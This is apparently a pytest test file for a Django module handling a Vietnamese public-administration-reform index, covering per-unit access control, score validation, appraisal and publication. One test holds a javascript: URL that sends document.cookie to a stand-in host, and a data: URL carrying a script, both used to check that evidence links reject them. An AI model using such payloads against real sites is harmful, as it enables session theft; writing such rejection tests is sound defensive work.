"""The PAR Index pages and API: who sees what, a score saved from the page, errors that keep
what was typed."""

import pytest
from django.test import Client
from rest_framework.test import APIClient

from reform.models import ParAssessment, ParRound
from reform.tests.par.conftest import NOW


def _client(user):
    c = Client()
    c.force_login(user)
    return c


def test_the_unit_fills_its_own_assessment_and_sees_no_other(par_round, home):
    a = par_round.assessments.get(unit=home.dept)
    theirs = par_round.assessments.get(unit=home.other)
    c = _client(home.dept_officer)
    page = c.get(f"/cai-cach/chi-so-cchc/danh-gia/{a.pk}/")
    body = page.content.decode()
    assert page.status_code == 200
    assert "Tỷ lệ hồ sơ giải quyết trước và đúng hạn" in body and "Hồ sơ, số liệu nguồn" in body
    assert c.get(f"/cai-cach/chi-so-cchc/danh-gia/{theirs.pk}/").status_code == 404
    score = a.scores.get(criterion__code="1.2")
    bad = c.post(f"/cai-cach/chi-so-cchc/danh-gia/{a.pk}/diem/{score.pk}/",
                 {"value": "150", "explanation": "Báo cáo số 12/BC"})
    assert bad.status_code == 400
    assert "Tỷ lệ phải từ 0 đến 100." in bad.content.decode()
    assert "Báo cáo số 12/BC" in bad.content.decode()  # what was typed is kept
    ok = c.post(f"/cai-cach/chi-so-cchc/danh-gia/{a.pk}/diem/{score.pk}/",
                {"value": "95", "explanation": "Báo cáo số 12/BC"})
    assert ok.status_code == 303
    score.refresh_from_db()
    assert score.value == "95" and str(score.self_points) == "2.00"
    live = a.scores.get(criterion__code="3.2.1")
    refused = c.post(f"/cai-cach/chi-so-cchc/danh-gia/{a.pk}/diem/{live.pk}/", {"value": "100"})
    assert refused.status_code == 400 and "lấy số liệu tự động" in refused.content.decode()
    # Another unit's officer, the API too.
    other = APIClient()
    other.force_authenticate(home.other_officer)
    assert other.get(f"/api/v1/reform/par/assessments/{a.pk}/").status_code == 404
    assert other.post(f"/api/v1/reform/par/assessments/{a.pk}/scores/{score.pk}/",
                      {"value": "0"}, format="json").status_code == 404
    mine = APIClient()
    mine.force_authenticate(home.dept_officer)
    r = mine.post(f"/api/v1/reform/par/assessments/{a.pk}/scores/{live.pk}/", {"value": "100"},
                  format="json")
    assert r.status_code == 409 and r.json()["error"]["code"] == "live_criterion"
    listing = mine.get("/api/v1/reform/par/assessments/").json()["results"]
    assert [x["id"] for x in listing] == [a.pk]


def test_the_appraiser_returns_an_assessment_from_the_page(par_round, home):
    a = par_round.assessments.get(unit=home.dept)
    ParAssessment.objects.filter(pk=a.pk).update(status="submitted")
    c = _client(home.appraiser)
    assert "Hoàn thành thẩm định" in c.get(f"/cai-cach/chi-so-cchc/danh-gia/{a.pk}/"
                                           ).content.decode()
    assert c.post(f"/cai-cach/chi-so-cchc/danh-gia/{a.pk}/tra-lai/",
                  {"reason": ""}).status_code == 400
    assert c.post(f"/cai-cach/chi-so-cchc/danh-gia/{a.pk}/tra-lai/",
                  {"reason": "Thiếu tài liệu 1.1"}).status_code == 303
    a.refresh_from_db()
    assert a.status == "returned"
    # The unit cannot act as appraiser.
    unit = _client(home.dept_officer)
    assert unit.post(f"/cai-cach/chi-so-cchc/danh-gia/{a.pk}/hoan-thanh/").status_code == 404
    assert _client(home.dept_officer).get(
        f"/cai-cach/chi-so-cchc/dot/{par_round.pk}/").status_code == 200
    assert _client(home.desk).get(f"/cai-cach/chi-so-cchc/dot/{par_round.pk}/"
                                  ).status_code == 404


def test_the_organiser_imports_a_set_and_opens_a_round_from_the_page(home):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from reform.models import ParCriteriaSet, ParRound
    from reform.tests.par.conftest import CRITERIA_FILE
    c = _client(home.reform_officer)
    page = c.get("/cai-cach/chi-so-cchc/").content.decode()
    # The forms stand once, in the page's body; the <title> is the page's name only.
    assert page.count('name="form" value="import"') == 1
    assert page.count('name="form" value="round"') == 1
    assert "<form" not in page.split("<title>")[1].split("</title>")[0]
    bad = c.post("/cai-cach/chi-so-cchc/", {"form": "import", "file": SimpleUploadedFile(
        "bo.yaml", b"year: 2026\nlevel: department\nname: X\nareas: []\n")})
    assert bad.status_code == 400 and "areas phải là danh sách" in bad.content.decode()
    assert ParCriteriaSet.objects.count() == 0
    ok = c.post("/cai-cach/chi-so-cchc/", {"form": "import", "file": SimpleUploadedFile(
        "bo.yaml", CRITERIA_FILE.read_bytes())})
    assert ok.status_code == 303
    crit = ParCriteriaSet.objects.get()
    opened = c.post("/cai-cach/chi-so-cchc/", {
        "form": "round", "organiser": home.home.pk, "criteria_set": crit.pk,
        "name": "Chỉ số CCHC 2026", "ky": "nam", "nam": "2026", "so": "1",
        "self_deadline": "2026-12-15", "units": [home.dept.pk, home.other.pk]})
    assert opened.status_code == 303
    r = ParRound.objects.get()
    # The commune is not a unit of a departments' set.
    assert [a.unit for a in r.assessments.all()] == [home.dept]
    # Staff without a CCHC role have no import or open form, and posting does nothing.
    desk = _client(home.desk)
    assert "Nhập bộ tiêu chí" not in desk.get("/cai-cach/chi-so-cchc/").content.decode()
    desk.post("/cai-cach/chi-so-cchc/", {"form": "import", "file": SimpleUploadedFile(
        "bo.yaml", CRITERIA_FILE.read_bytes()), "replace": "1"})
    assert ParCriteriaSet.objects.get() == crit


def test_evidence_files_open_to_the_unit_and_the_appraisers_only(par_round, home, settings,
                                                                tmp_path):
    from dossiers.tests import files
    from reform.par.services import score_declare

    settings.MEDIA_ROOT = tmp_path
    a = par_round.assessments.get(unit=home.dept)
    score = score_declare(score=a.scores.get(criterion__code="1.1"), actor=home.dept_officer,
                          value="yes", files=[("ke-hoach.pdf", files.PDF)])
    url = f"/cai-cach/chi-so-cchc/danh-gia/{a.pk}/tep/{score.files.get().pk}/"
    assert url in _client(home.dept_officer).get(
        f"/cai-cach/chi-so-cchc/danh-gia/{a.pk}/").content.decode()
    for who in (home.dept_officer, home.appraiser):
        r = _client(who).get(url)
        assert r.status_code == 200 and b"".join(r.streaming_content) == files.PDF
        assert r["Content-Disposition"].startswith("attachment")
    assert _client(home.other_officer).get(url).status_code == 404


def test_the_assessment_page_reads_a_fixed_number_of_statements(par_round, home):
    """The page reads each thing once (criteria, scores with their files, last year's
    assessment, the history as values): its statements do not grow with the criteria, the
    files or the history. Pinned at what it reads with the navigation: 12 statements for the
    unit's officer here, where the unit has no assessment of last year (whose scores would be
    one more). Issue #13's benchmark: bench/par_assessment.py."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from reform.par.services import score_declare

    a = par_round.assessments.get(unit=home.dept)
    c = _client(home.dept_officer)
    url = f"/cai-cach/chi-so-cchc/danh-gia/{a.pk}/"
    c.get(url)
    with CaptureQueriesContext(connection) as before:
        assert c.get(url).status_code == 200
    for code in ("1.1", "1.2", "1.3"):
        score = a.scores.get(criterion__code=code)
        score_declare(actor=home.dept_officer, score=score, now=NOW,
                   value="yes" if score.criterion.answer_kind == "yes_no" else "90",
                   explanation=f"Báo cáo {code}")
    with CaptureQueriesContext(connection) as after:
        page = c.get(url)
    body = page.content.decode()
    assert "Báo cáo 1.2" in body  # the new events are on the page …
    assert len(after.captured_queries) == len(before.captured_queries) <= 12  # … for free


def test_the_page_and_the_api_show_the_one_history(home, month, par_round):
    """Both read the history through selectors.assessment_history: the API gives every event
    as stored (the actor's username, or none for the system; the criterion's code; old → new
    with points; the reason), the page the same events with the person's name. The month's
    dossiers come first, so that the round reads live figures when it opens (the system's
    events)."""
    import json
    from datetime import timedelta

    from django.utils.formats import date_format
    from django.utils.timezone import localtime
    from rest_framework.utils.encoders import JSONEncoder

    from reform.models import ParScoreEvent
    from reform.par.services import score_appraise, score_declare

    a = par_round.assessments.get(unit=home.dept)
    score_declare(score=a.scores.get(criterion__code="1.1"), actor=home.dept_officer,
                  value="yes", explanation="Quyết định 15/QĐ", now=NOW)
    score_declare(score=a.scores.get(criterion__code="1.2"), actor=home.dept_officer,
                  value="95", explanation="Báo cáo số 12/BC", now=NOW + timedelta(minutes=1))
    ParAssessment.objects.filter(pk=a.pk).update(status="submitted")
    score_appraise(score=a.scores.select_related("criterion").get(criterion__code="1.2"),
                   actor=home.appraiser, accept=False, value="85",
                   reason="Báo cáo ghi 85 % nhiệm vụ", now=NOW + timedelta(hours=1))
    events = list(ParScoreEvent.objects.filter(assessment=a).select_related(
        "actor", "score__criterion").order_by("at", "pk"))
    assert {e.actor for e in events} == {None, home.dept_officer, home.appraiser}
    expected = [{"at": e.at, "actor": e.actor.username if e.actor else None,
                 "action": e.action, "code": e.score.criterion.code if e.score else "",
                 "old_value": e.old_value, "new_value": e.new_value,
                 "old_points": None if e.old_points is None else float(e.old_points),
                 "new_points": None if e.new_points is None else float(e.new_points),
                 "reason": e.reason} for e in events]
    api = APIClient()
    api.force_authenticate(home.appraiser)
    got = api.get(f"/api/v1/reform/par/assessments/{a.pk}/").json()["history"]
    assert got == json.loads(json.dumps(expected, cls=JSONEncoder))
    adjust = events[-1]
    assert (adjust.action, adjust.old_value, adjust.new_value) == ("adjust", "95", "85")
    body = _client(home.appraiser).get(f"/cai-cach/chi-so-cchc/danh-gia/{a.pk}/"
                                       ).content.decode()
    history = body.split('id="lich-su"')[1]
    assert history.count("<tr>") == len(events) + 1  # the header row and one row per event
    assert "Hệ thống" in history and home.appraiser.display_name in history
    assert date_format(localtime(adjust.at), "d/m/Y H:i") in history
    assert "95 (2,00) → 85 (1,00)" in history and "Báo cáo ghi 85 % nhiệm vụ" in history


def test_self_assessment_appraisal_and_publication_through_the_api(par_round, home):
    """Issue #13's cycle through the API alone: the unit declares and submits, the appraisal
    team adjusts with a reason and finishes, the organiser publishes (not before every
    assessment is appraised, and only the organiser), and the unit reads its rank and group."""
    from reform.par.services import assessment_submit
    from reform.tests.par.test_par_cycle import fill_all

    def api(user):
        c = APIClient()
        c.force_authenticate(user)
        return c

    a = par_round.assessments.get(unit=home.dept)
    base = f"/api/v1/reform/par/assessments/{a.pk}/"
    unit = api(home.dept_officer)
    value = {"yes_no": "yes", "percent": "100", "number": "5"}
    for s in unit.get(base).json()["scores"]:
        if not s["live_metric"]:
            r = unit.post(f"{base}scores/{s['id']}/", {
                "value": value.get(s["answer_kind"], str(s["max_points"])),
                "explanation": "Văn bản lưu tại sở"}, format="json")
            assert r.status_code == 200, r.json()
    assert unit.post(f"{base}actions/submit/", {}, format="json").json()["status"] == "submitted"
    other = par_round.assessments.get(unit=home.other)
    fill_all(other, home.other_officer)
    assessment_submit(assessment=other, actor=home.other_officer, now=NOW)

    publish = f"/api/v1/reform/par/rounds/{par_round.pk}/publish/"
    organiser = api(home.reform_officer)
    early = organiser.post(publish, {}, format="json")
    assert early.status_code == 409 and early.json()["error"]["code"] == "not_appraised"
    team = api(home.appraiser)
    for x in (a, other):
        for s in team.get(f"/api/v1/reform/par/assessments/{x.pk}/").json()["scores"]:
            if s["value"] == "":  # a live figure with nothing to count: the team sets it
                assert team.post(f"/api/v1/reform/par/assessments/{x.pk}/scores/{s['id']}/", {
                    "appraise": "adjust", "value": "100", "reason": "Theo báo cáo của sở"},
                    format="json").status_code == 200
    score = a.scores.get(criterion__code="1.6")
    adjusted = team.post(f"{base}scores/{score.pk}/", {
        "appraise": "adjust", "value": "1", "reason": "Chỉ 1 sáng kiến được công nhận"},
        format="json").json()
    assert (adjusted["final_value"], adjusted["appraisal_reason"]) == (
        "1", "Chỉ 1 sáng kiến được công nhận")
    for x in (a, other):
        r = team.post(f"/api/v1/reform/par/assessments/{x.pk}/actions/finish/", {}, format="json")
        assert r.json()["status"] == "appraised"
    assert team.post(publish, {}, format="json").status_code == 404  # not the organiser
    assert unit.post(publish, {}, format="json").status_code == 404
    done = organiser.post(publish, {}, format="json")
    assert done.status_code == 200 and done.json()["status"] == "published"
    mine = unit.get(base).json()
    assert mine["status"] == "published" and mine["rank"] in (1, 2) and mine["group"]
    assert [x["code"] for x in mine["lost"]] == ["1.6"]
    ranking = unit.get(f"/api/v1/reform/par/rounds/{par_round.pk}/").json()["results"]
    assert {x["unit"] for x in ranking} == {home.dept.code, home.other.code}
    again = organiser.post(publish, {}, format="json")
    assert again.status_code == 409 and again.json()["error"]["code"] == "published"


@pytest.mark.parametrize("url", ["javascript:fetch('//x.example/'+document.cookie)",
                                 "data:text/html,<script>alert(1)</script>",
                                 "https://example.vn/" + "a" * 300])
def test_an_evidence_link_is_an_http_address_within_its_column(par_round, home, url):
    """The link is shown to the appraisers as <a href>: a javascript: address would run in their
    session on a browser without the CSP, and one past the column's 200 characters was a 500 on
    PostgreSQL. Refused naming the field, as a task's evidence link is (reform/services/tasks)."""
    from motcua.errors import DomainError
    from reform.par.services import score_declare

    score = par_round.assessments.get(unit=home.dept).scores.get(criterion__code="1.1")
    with pytest.raises(DomainError) as caught:
        score_declare(score=score, actor=home.dept_officer, value="yes", evidence_url=url)
    assert "evidence_url" in caught.value.fields
    score.refresh_from_db()
    assert score.evidence_url == "" and score.value == ""
    page = _client(home.dept_officer).post(
        f"/cai-cach/chi-so-cchc/danh-gia/{score.assessment_id}/diem/{score.pk}/",
        {"value": "yes", "evidence_url": url})
    assert page.status_code == 400
    ok = score_declare(score=score, actor=home.dept_officer, value="yes",
                       evidence_url=" https://stp.example.gov.vn/bao-cao.pdf ")
    assert ok.evidence_url == "https://stp.example.gov.vn/bao-cao.pdf"


def test_a_value_too_long_for_its_column_is_refused_naming_the_field(par_round, home):
    """A declared or appraised number is stored as the text of its Decimal: 9.99… with sixty
    decimals passed every check (a percentage, and points under the criterion's maximum) and
    then made PostgreSQL refuse the 40-character column (a 500)."""
    from motcua.errors import DomainError
    from reform.par.services import score_appraise, score_declare

    a = par_round.assessments.get(unit=home.dept)
    score = a.scores.exclude(criterion__answer_kind="yes_no").filter(
        criterion__live_metric="").first()
    long_value = "9." + "9" * 60
    with pytest.raises(DomainError) as caught:
        score_declare(score=score, actor=home.dept_officer, value=long_value)
    assert "value" in caught.value.fields
    page = _client(home.dept_officer).post(
        f"/cai-cach/chi-so-cchc/danh-gia/{a.pk}/diem/{score.pk}/", {"value": long_value})
    assert page.status_code == 400
    score_declare(score=score, actor=home.dept_officer, value="1")
    ParAssessment.objects.filter(pk=a.pk).update(status="submitted")
    with pytest.raises(DomainError) as caught:
        score_appraise(score=score, actor=home.appraiser, accept=False, value=long_value,
                       reason="Số liệu khác báo cáo")
    assert "value" in caught.value.fields


@pytest.mark.parametrize("field, value", [("name", "Đợt " * 100), ("criteria_set", "abc"),
                                          ("units", "²")])
def test_opening_a_round_refuses_a_long_name_or_a_strange_id_not_a_500(home, criteria, field,
                                                                        value):
    """A name past its 300-character column was a 500 on PostgreSQL; an id that is not a number
    a 500 everywhere (motcua.inputs.id_parse)."""
    data = {"organiser": home.home.pk, "criteria_set": criteria.pk, "units": [home.dept.pk],
            "self_deadline": "2026-12-30", "ky": "nam", "nam": "2026", "name": "Đợt 2026"}
    data[field] = value
    answer = _client(home.reform_officer).post("/cai-cach/chi-so-cchc/", data)
    assert answer.status_code == 400
    assert not ParRound.objects.exists()


def test_a_ranking_links_only_the_assessments_the_reader_may_open(par_round, home):
    """A unit reads every unit's row of a published ranking but opens only its own assessment
    (the others answer 404 to it): assessment_ids_openable says which rows link."""
    from reform.par.selectors import assessment_ids_openable

    ours = par_round.assessments.get(unit=home.dept)
    everyone = set(par_round.assessments.values_list("pk", flat=True))
    assert assessment_ids_openable(home.dept_officer, par_round) == {ours.pk}
    assert assessment_ids_openable(home.reform_officer, par_round) == everyone
    assert assessment_ids_openable(home.specialist, par_round) == set()


def test_an_assessed_units_officer_neither_replaces_the_set_nor_opens_rounds(home, criteria):
    """audit5: every CCHC officer was an organiser: a department's own officer could replace
    the province's criteria set (while no round used it yet) and open rounds over the other
    departments. Only a unit with an appraisal team (Role.APPRAISER there: the Department of
    Home Affairs) organises the PAR Index."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from metrics.periods import Period
    from motcua.errors import NotAllowed
    from reform.models import ParCriteriaSet
    from reform.par.services import round_open
    from reform.tests.par.conftest import CRITERIA_FILE

    c = _client(home.dept_officer)
    page = c.get("/cai-cach/chi-so-cchc/").content.decode()
    assert 'name="form" value="import"' not in page and 'value="round"' not in page
    lowered = CRITERIA_FILE.read_text(encoding="utf-8").replace(
        "\nname:", "\nname: Sửa bởi sở -", 1).encode()
    assert lowered != CRITERIA_FILE.read_bytes()
    c.post("/cai-cach/chi-so-cchc/", {"form": "import", "replace": "1",
                                      "file": SimpleUploadedFile("bo.yaml", lowered)})
    assert ParCriteriaSet.objects.get() == criteria
    c.post("/cai-cach/chi-so-cchc/", {
        "form": "round", "organiser": home.dept.pk, "criteria_set": criteria.pk,
        "name": "Chỉ số CCHC 2026", "ky": "nam", "nam": "2026", "so": "1",
        "self_deadline": "2026-12-15", "units": [home.other.pk]})
    assert not ParRound.objects.exists()
    with pytest.raises(NotAllowed):
        round_open(actor=home.dept_officer, criteria_set=criteria, organiser=home.dept,
                   name="Đợt riêng", period=Period("nam", 2026),
                   self_deadline=NOW.date(), units=[home.other])
    # The Department of Home Affairs' officer still does both (its unit has appraisers).
    assert 'name="form" value="import"' in _client(home.reform_officer).get(
        "/cai-cach/chi-so-cchc/").content.decode()


def test_a_refused_score_keeps_the_typed_values_and_the_evidence_files(par_round, home,
                                                                        settings, tmp_path):
    """A rate over 100 came back with the explanation but not the link (the saved one shown
    instead) nor the files: they are kept (motcua.held_files) and sent with the correction."""
    import re

    from django.core.files.uploadedfile import SimpleUploadedFile

    from dossiers.tests import files

    settings.MEDIA_ROOT = tmp_path
    a = par_round.assessments.get(unit=home.dept)
    score = a.scores.get(criterion__code="1.2")
    c = _client(home.dept_officer)
    url = f"/cai-cach/chi-so-cchc/danh-gia/{a.pk}/diem/{score.pk}/"
    bad = c.post(url, {"value": "150", "explanation": "Báo cáo số 12/BC",
                       "evidence_url": "https://stp.khanhhoa.gov.vn/bc-12",
                       "files": [SimpleUploadedFile("báo cáo 12.pdf", files.PDF)]})
    assert bad.status_code == 400
    page = bad.content.decode()
    assert 'value="150"' in page and "Báo cáo số 12/BC" in page
    assert 'value="https://stp.khanhhoa.gov.vn/bc-12"' in page
    tokens = re.findall(r'name="held_files" value="([0-9a-f]{32})" checked', page)
    assert len(tokens) == 1 and "báo cáo 12.pdf" in page
    ok = c.post(url, {"value": "95", "explanation": "Báo cáo số 12/BC",
                      "evidence_url": "https://stp.khanhhoa.gov.vn/bc-12", "held_files": tokens})
    assert ok.status_code == 303
    score.refresh_from_db()
    assert score.value == "95" and score.evidence_url == "https://stp.khanhhoa.gov.vn/bc-12"
    assert [f.file.read() for f in score.files.all()] == [files.PDF]
    assert not any((tmp_path / "private" / "held").iterdir())
